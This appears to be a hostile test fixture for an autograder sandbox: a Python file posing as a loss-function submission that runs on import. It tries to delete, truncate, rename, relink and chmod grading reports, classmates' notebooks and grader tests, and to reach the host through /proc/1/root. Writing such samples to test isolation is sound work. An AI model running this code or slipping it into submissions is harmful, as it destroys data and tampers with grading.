# mechanism: symlinks, hard links, renames, removals and chmod of the output's and the class's files
# success: a report, a submission or the course is changed, moved or unreadable

# %%
import os
import shutil

TARGETS = [
    "@OUTPUT@", "@OUTPUT@/ada", "@OUTPUT@/ada/04_losses/report.json", "@OUTPUT@/@SELF@/04_losses",
    "@OUTPUT@/summary.csv", "@CLASS@", "@CLASS@/ada/04_losses/losses.ipynb", "@COURSE@",
    "@COURSE@/solutions/graders/test_losses.py", "@HOME@", "@CANARY@", "/site", "/python", "/lib",
]


def attempt(action, *args):
    try:
        action(*args)
    except OSError:
        pass


def meddle(*args):
    for place, target in enumerate(TARGETS):
        attempt(os.symlink, target, f"/scratch/link{place}")
        attempt(os.link, target, f"/scratch/hard{place}")
        for path in (target, f"/scratch/link{place}", f"/proc/1/root{target}"):
            attempt(os.chmod, path, 0o777)
            attempt(os.chmod, path, 0)
            attempt(os.rename, path, path + "-planted-by-mallory")
            attempt(os.truncate, path, 0)
            attempt(os.utime, path, (0, 0))
            attempt(os.unlink, path)
            attempt(os.symlink, "/dev/null", path)
            attempt(shutil.rmtree, path)
        attempt(os.symlink, "/scratch", target)
    for name in ("report.json", "summary.csv", "@SELF@"):
        attempt(os.symlink, f"@OUTPUT@/ada/04_losses/{name}", f"/scratch/{name}")
        attempt(os.mkfifo, f"/scratch/fifo-{name}")
    return 0


meddle()
mse = mae = meddle
